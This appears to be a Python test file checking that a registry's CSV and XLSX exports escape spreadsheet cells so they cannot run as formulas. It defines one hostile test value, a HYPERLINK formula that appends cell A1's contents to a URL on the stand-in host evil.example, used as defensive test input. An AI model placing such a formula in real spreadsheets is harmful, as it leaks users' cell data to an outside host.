"""Spreadsheet cells that cannot run as formulas (issue 12 item 10)."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from envwatch.registry.export import write_export
from envwatch.registry.importing import ImportKind, read_table
from envwatch.spreadsheet import FORMULA_STARTS, cell_text, safe_cell
from envwatch.web.table_export import table_bytes

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@given(st.text(max_size=40))
def test_no_text_cell_starts_a_formula_and_each_reads_back(text: str) -> None:
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell_text(cell) == text


def test_numbers_stay_numbers() -> None:
    assert safe_cell(-5.0) == -5.0 and safe_cell(None) is None


def enterprise_row(name: str) -> dict[str, object]:
    return {"name": name, "credit_code": "91371500MA3C0TEXT1", "county_code": "371502",
            "industry_code": "2614", "key_categories": "", "longitude": None,
            "latitude": None, "positive_list": False, "performance_grade": "",
            "emergency_exempt": False, "work_shifts": ""}  # fmt: skip


def test_an_enterprise_named_like_a_formula_is_text_in_csv_and_xlsx_and_imports_back() -> None:
    tables = {ImportKind.ENTERPRISES: [enterprise_row(HOSTILE)]}
    csv_bytes = write_export(tables, "csv")
    (_header, row) = list(csv.reader(io.StringIO(csv_bytes.decode("utf-8-sig"))))
    assert row[0] == "'" + HOSTILE
    xlsx_bytes = write_export(tables, "xlsx")
    sheet = load_workbook(io.BytesIO(xlsx_bytes)).worksheets[0]
    cell = sheet.cell(row=2, column=1)
    assert cell.data_type == "s" and cell.value == "'" + HOSTILE
    for name, content in (("e.csv", csv_bytes), ("e.xlsx", xlsx_bytes)):
        (read,) = read_table(name, content, ImportKind.ENTERPRISES)
        assert read["企业名称"] == HOSTILE, name


def test_a_downloaded_table_holds_no_formula() -> None:
    columns = [("name", "名称"), ("value", "数值")]
    rows: list[dict[str, object]] = [
        {"name": "=HYPERLINK(1)", "value": 3.5},
        {"name": "断面", "value": None},
    ]
    text = table_bytes(columns, rows, "csv").decode("utf-8")
    assert text == "\ufeff名称,数值\r\n'=HYPERLINK(1),3.5\r\n断面,\r\n"
    sheet = load_workbook(io.BytesIO(table_bytes(columns, rows, "xlsx"))).active
    assert sheet is not None
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [
        ["名称", "数值"], ["'=HYPERLINK(1)", 3.5], ["断面", None],
    ]  # fmt: skip
